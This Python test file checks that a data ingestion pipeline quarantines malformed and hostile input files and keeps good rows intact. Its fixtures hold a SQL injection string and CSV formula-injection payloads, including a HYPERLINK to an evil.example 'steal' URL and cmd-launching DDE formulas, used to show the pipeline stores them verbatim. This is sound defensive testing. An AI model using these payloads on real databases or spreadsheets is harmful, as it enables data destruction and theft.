"""A batch of hostile files mixed with good ones goes through the whole graph: nothing lost, reasons clear.

One home is materialised once (module fixture) with the tiny model; each test reads its warehouse.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest

from st_assets.settings import Settings
from st_assets_tests.conftest import materialize_everything, write_bundled_slice

SQL_INJECTION = "'); DROP TABLE validated_pairs; --"
FORMULAS = (
    '=HYPERLINK("http://evil.example/steal?d=1","click for refund")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
)

GOOD_SCORED = [
    ("my card has not arrived yet", "the card I ordered never came", "0.9"),
    ("how do I close my account", "I want to delete my account", "0.85"),
    ("the app keeps crashing", "what time does the branch open", "0.05"),
    ("can I change my pin at an atm", "how do I set a new pin at a cash machine", "0.8"),
    ("why was I charged twice", "there is a double payment on my statement", "0.9"),
    ("the weather is nice today", "my transfer failed", "0.0"),
]
GOOD_BINARY = [
    ("where is my refund", "my refund has not shown up", 1),
    ("where is my refund", "how do I order a new card", 0),
    ("my transfer is pending", "the transfer has not gone through yet", 1),
    ("my transfer is pending", "can I get a paper statement", 0),
    ("I lost my phone", "my phone was stolen and has the banking app", 1),
    ("I lost my phone", "what is the exchange rate for euros", 0),
]
GOOD_TRIPLETS = [
    ("freeze my card", "block my card right now", "what is my balance"),
    ("top up with apple pay", "add money using apple pay", "close my savings account"),
    ("change my address", "update my home address", "my card was declined abroad"),
    ("cash withdrawal fee", "why was I charged for taking out cash", "how do I verify my identity"),
]

# (file, rule) pairs the hostile files must produce; file_readable rows come from files rejected whole.
EXPECTED_ROW_RULES = {
    ("hostile_scores.csv", "score_in_range"),
    ("hostile_scores.csv", "sentence1_not_null"),
    ("hostile_scores.csv", "score_not_null"),
    ("hostile_scores.csv", "row_readable"),
    ("hostile_scores.csv", "duplicate_row"),
    ("hostile_scores.csv", "sentence2_not_null"),
    ("hostile_pairs.jsonl", "texts_distinct"),
    ("hostile_triplets.csv", "texts_distinct"),
    ("hostile_binary.csv", "score_is_binary"),
    ("one_broken_line.jsonl", "row_readable"),
    ("control_only.jsonl", "sentence1_not_null"),
}
REJECTED_FILES = {
    "wrong_columns.csv": "match no pair format",
    "invalid_utf8.csv": "not valid utf-8",
    "binary_junk.csv": "NUL bytes",
    "broken_quoting.csv": "broken CSV quoting in the record that starts on line 2",
    "empty.csv": "file is empty",
    "header_only.csv": "no data rows",
    "notes.klingon.csv": "not valid utf-8",
}
GOOD_FILES = (
    "good_scored.csv",
    "good_binary.jsonl",
    "good_triplets.csv",
    "legacy.latin-1.csv",
    "indexed_export.csv",
)


def _csv_text(header: tuple[str, ...], rows: list[tuple[object, ...]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _jsonl_text(records: list[dict[str, object]]) -> str:
    return "".join(json.dumps(record) + "\n" for record in records)


def _write_good_files(incoming: Path) -> None:
    write_bundled_slice(incoming, intents=3, per_intent=10)
    (incoming / "good_scored.csv").write_text(_csv_text(("sentence1", "sentence2", "score"), GOOD_SCORED))
    (incoming / "good_binary.jsonl").write_text(
        _jsonl_text([{"sentence1": a, "sentence2": b, "label": label} for a, b, label in GOOD_BINARY])
    )
    (incoming / "good_triplets.csv").write_text(_csv_text(("anchor", "positive", "negative"), GOOD_TRIPLETS))
    (incoming / "legacy.latin-1.csv").write_bytes(
        _csv_text(
            ("anchor", "positive"),
            [("paiement refusé au café", "ma carte a été refusée"), ("reçu manquant", "où est mon reçu")],
        ).encode("latin-1")
    )
    # What pandas writes by default: the index as a first column with no name.
    pd.DataFrame(
        {
            "anchor": ["send money abroad", "card frozen"],
            "positive": ["international transfer", "unfreeze it"],
        }
    ).to_csv(incoming / "indexed_export.csv")


def _write_hostile_files(incoming: Path) -> None:
    good = GOOD_SCORED[0]
    (incoming / "hostile_scores.csv").write_text(
        _csv_text(
            ("sentence1", "sentence2", "score"),
            [
                ("a fresh good pair about savings", "interest on my savings account", "0.7"),  # 1 valid
                ("score too high", "out of range above", "1.7"),  # 2 score_in_range
                ("score too low", "out of range below", "-0.2"),  # 3 score_in_range
                ("", "an empty first sentence", "0.5"),  # 4 sentence1_not_null
                ("a pair without a number", "the score is empty", ""),  # 5 score_not_null
                ("a pair with words for a score", "score is a word", "high"),  # 6 row_readable
                good,  # 7 duplicate_row of good_scored.csv row 1
                ("only two fields", "0.5"),  # 8 row_readable (field count)
                ("bell and escape only", "\x07\x1b\x08", "0.5"),  # 9 sentence2_not_null
                ("tab\x07 and bell inside", "control characters are stripped", "0.6"),  # 10 valid
                ("a pair scored NaN", "NaN is written, not missing", "NaN"),  # 11 row_readable
            ],
        )
    )
    (incoming / "hostile_pairs.jsonl").write_text(
        _jsonl_text(
            [
                {"anchor": SQL_INJECTION, "positive": "a sql injection attempt"},
                *(
                    {"anchor": formula, "positive": f"spreadsheet formula {i}"}
                    for i, formula in enumerate(FORMULAS)
                ),
                {"anchor": "same text twice", "positive": "same text twice"},  # texts_distinct
            ]
        )
        # A raw U+2028 is legal inside a JSON string; it must not split the line in two.
        + json.dumps({"anchor": "line\u2028separator inside", "positive": "one row"}, ensure_ascii=False)
        + "\n",
        encoding="utf-8",
    )
    (incoming / "hostile_triplets.csv").write_text(
        _csv_text(
            ("anchor", "positive", "negative"),
            [
                ("report a stolen card", "my card was stolen", "how do I open an account"),
                ("report a lost card", "I lost my card", "I lost my card"),  # texts_distinct
            ],
        )
    )
    (incoming / "hostile_binary.csv").write_text(
        _csv_text(
            ("sentence1", "sentence2", "label"),
            [
                ("is my card blocked", "my card stopped working", 1),
                ("is my card blocked", "a label of two", 2),
            ],
        )
    )
    (incoming / "one_broken_line.jsonl").write_text(
        '{"text": "card still not here", "label": "card_arrival"}\n'
        '{"text": "half a line, "label": \n'
        '{"text": "my card came today", "label": "card_arrival"}\n'
    )
    (incoming / "control_only.jsonl").write_text(
        _jsonl_text([{"text": "\x07\x1b\x7f\x9f"}, {"text": "a plain unlabelled sentence"}])
    )
    # Files rejected whole.
    (incoming / "wrong_columns.csv").write_text("question,answer\nhi,there\n")
    (incoming / "invalid_utf8.csv").write_bytes(b"text,label\ncaf\xe9 cr\xe8me,drinks\n")
    (incoming / "binary_junk.csv").write_bytes(bytes(range(256)) * 8)
    (incoming / "broken_quoting.csv").write_text('sentence1,sentence2,score\na,"b"x,0.5\nc,d,0.4\n')
    (incoming / "empty.csv").write_bytes(b"")
    (incoming / "header_only.csv").write_text("sentence1,sentence2,score\n")
    # Names no encoding Python knows, and is not UTF-8.
    (incoming / "notes.klingon.csv").write_bytes("text\nQapla' café\n".encode("latin-1"))
    # Still being uploaded: never read.
    (incoming / "upload.csv.part").write_text("sentence1,sentence2,score\nhalf a ro")


@pytest.fixture(scope="module")
def hostile_home(
    tmp_path_factory: pytest.TempPathFactory, tiny_model_path: Path
) -> tuple[Settings, dg.ExecuteInProcessResult]:
    """A home whose incoming folder mixes every hostile case with good files, materialised once."""
    home = tmp_path_factory.mktemp("hostile")
    _write_good_files(home / "incoming")
    _write_hostile_files(home / "incoming")
    settings = Settings(
        home=home, base_model=str(tiny_model_path), batch_size=8, min_train_rows=4, max_quarantine_rate=0.9
    )
    return settings, materialize_everything(settings)


@pytest.fixture
def warehouse(
    hostile_home: tuple[Settings, dg.ExecuteInProcessResult],
) -> Iterator[duckdb.DuckDBPyConnection]:
    settings, _ = hostile_home
    with duckdb.connect(str(settings.warehouse_path), read_only=True) as connection:
        yield connection


def _incoming_names(settings: Settings) -> list[str]:
    return sorted(path.name for path in settings.incoming_dir.iterdir())


def test_the_graph_materialises_and_validation_checks_pass(
    hostile_home: tuple[Settings, dg.ExecuteInProcessResult],
) -> None:
    _, result = hostile_home
    assert result.success
    checks = {check.check_name: check for check in result.get_asset_check_evaluations()}
    assert checks["validation_suite"].passed and checks["split_is_leak_free"].passed


def test_every_file_is_reconciled_rows_in_equal_valid_plus_quarantined(
    hostile_home: tuple[Settings, dg.ExecuteInProcessResult], warehouse: duckdb.DuckDBPyConnection
) -> None:
    settings, _ = hostile_home
    counts = {
        name: (raw, valid, quarantined)
        for name, raw, valid, quarantined in warehouse.execute(
            """
            SELECT f.source_file,
                   (SELECT count(*) FROM raw_texts r WHERE r.source_file = f.source_file),
                   (SELECT count(*) FROM validated_pairs v WHERE v.source_file = f.source_file),
                   (SELECT count(*) FROM pairs_quarantine q
                     WHERE q.source_file = f.source_file AND q.row_number IS NOT NULL)
            FROM ingested_files f
            """
        ).fetchall()
    }
    assert sorted(counts) == [name for name in _incoming_names(settings) if not name.endswith(".part")]
    unbalanced = {name: c for name, c in counts.items() if c[0] != c[1] + c[2]}
    assert unbalanced == {}
    assert counts["hostile_scores.csv"] == (11, 2, 9)


def test_files_rejected_whole_have_one_quarantine_row_naming_the_file(
    warehouse: duckdb.DuckDBPyConnection,
) -> None:
    rows = warehouse.execute(
        "SELECT source_file, rule, reason FROM pairs_quarantine WHERE row_number IS NULL ORDER BY source_file"
    ).fetchall()
    assert sorted(name for name, _, _ in rows) == sorted(REJECTED_FILES)
    for name, rule, reason in rows:
        assert rule == "file_readable"
        assert reason.startswith(f"{name}: "), reason
        assert REJECTED_FILES[name] in reason, reason
    raw = warehouse.execute(
        f"SELECT count(*) FROM raw_texts WHERE source_file IN ({', '.join('?' * len(REJECTED_FILES))})",
        list(REJECTED_FILES),
    ).fetchone()
    assert raw == (0,)


def test_each_hostile_row_is_quarantined_with_a_reason_naming_its_rule(
    warehouse: duckdb.DuckDBPyConnection,
) -> None:
    rows = warehouse.execute(
        "SELECT source_file, row_number, rule, reason FROM pairs_quarantine WHERE row_number IS NOT NULL"
    ).fetchall()
    found = {(name, rule) for name, _, rule, _ in rows}
    assert found >= EXPECTED_ROW_RULES
    for name, number, rule, reason in rows:
        assert f"(rule {rule})" in reason, (name, number, reason)
    reasons = {(name, number): reason for name, number, _, reason in rows}
    assert (
        reasons[("hostile_scores.csv", 2)]
        == "score 1.7 outside [0, 1]: the score read, divided by the file's score_scale (rule score_in_range)"
    )
    assert reasons[("hostile_scores.csv", 7)] == (
        "duplicate of good_scored.csv row 1, its first copy (rule duplicate_row)"
    )
    assert "score 'high' is not a number" in reasons[("hostile_scores.csv", 6)]
    assert reasons[("hostile_scores.csv", 11)] == "score 'NaN' is not a number (rule row_readable)"
    assert "expected 3 fields, found 2" in reasons[("hostile_scores.csv", 8)]
    assert "invalid JSON" in reasons[("one_broken_line.jsonl", 2)]
    raw_rows = {
        (name, number): json.loads(raw_row)
        for name, number, raw_row in warehouse.execute(
            "SELECT source_file, row_number, raw_row FROM pairs_quarantine WHERE rule = 'row_readable'"
        ).fetchall()
    }
    # A row that could not be read keeps what was read of it, beside its error.
    assert raw_rows[("hostile_scores.csv", 6)]["record"]["score"] == "high"
    assert "only two fields" in json.dumps(raw_rows[("hostile_scores.csv", 8)]["record"])
    assert "half a line" in json.dumps(raw_rows[("one_broken_line.jsonl", 2)]["record"])
    assert reasons[("hostile_binary.csv", 2)] == "label 2 is not 0 or 1 (rule score_is_binary)"
    assert reasons[("hostile_triplets.csv", 2)] == (
        "positive and negative are the same text (rule texts_distinct)"
    )
    assert reasons[("control_only.jsonl", 1)] == "text is empty (rule sentence1_not_null)"


def test_file_rejections_name_their_rule_too(warehouse: duckdb.DuckDBPyConnection) -> None:
    reasons = warehouse.execute("SELECT reason FROM pairs_quarantine WHERE rule = 'file_readable'").fetchall()
    assert reasons and all("(rule file_readable)" in reason for (reason,) in reasons)


def test_sql_and_formula_texts_are_stored_verbatim_and_tables_survive(
    warehouse: duckdb.DuckDBPyConnection,
) -> None:
    for text in (SQL_INJECTION, *FORMULAS):
        found = warehouse.execute(
            "SELECT count(*) FROM validated_pairs WHERE sentence1 = ? AND source_file = 'hostile_pairs.jsonl'",
            [text],
        ).fetchone()
        assert found == (1,), text
    tables = {name for (name,) in warehouse.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
    assert tables >= {"raw_texts", "labelled_pairs", "validated_pairs", "pairs_quarantine", "model_registry"}


def test_good_rows_are_all_valid_and_cleaned(warehouse: duckdb.DuckDBPyConnection) -> None:
    for name in GOOD_FILES:
        raw, valid = warehouse.execute(
            "SELECT (SELECT count(*) FROM raw_texts WHERE source_file = ?), "
            "(SELECT count(*) FROM validated_pairs WHERE source_file = ?)",
            [name, name],
        ).fetchone()
        assert raw == valid > 0, name
    latin = warehouse.execute(
        "SELECT sentence1 FROM validated_pairs WHERE source_file = 'legacy.latin-1.csv' ORDER BY row_number"
    ).fetchall()
    assert latin == [("paiement refusé au café",), ("reçu manquant",)]
    # An ingested file notes what of it was not read.
    assert warehouse.execute(
        "SELECT status, reason, notes FROM ingested_files WHERE source_file = 'indexed_export.csv'"
    ).fetchone() == ("ingested", None, "unnamed columns are not read")
    cleaned = warehouse.execute(
        "SELECT source_file, row_number, sentence1 FROM validated_pairs "
        "WHERE sentence1 IN ('tab and bell inside', 'line separator inside') ORDER BY source_file"
    ).fetchall()
    assert cleaned == [
        ("hostile_pairs.jsonl", 7, "line separator inside"),
        ("hostile_scores.csv", 10, "tab and bell inside"),
    ]


def test_the_trained_version_used_exactly_the_train_split(warehouse: duckdb.DuckDBPyConnection) -> None:
    trained = warehouse.execute("SELECT train_rows FROM model_registry WHERE version <> 'base'").fetchall()
    train_split = warehouse.execute("SELECT count(*) FROM validated_pairs WHERE split = 'train'").fetchone()
    assert trained == [train_split]


def test_a_file_still_being_written_is_not_read(warehouse: duckdb.DuckDBPyConnection) -> None:
    for table in ("raw_texts", "ingested_files", "pairs_quarantine"):
        found = warehouse.execute(
            f"SELECT count(*) FROM {table} WHERE source_file LIKE 'upload.csv%'"
        ).fetchone()
        assert found == (0,), table
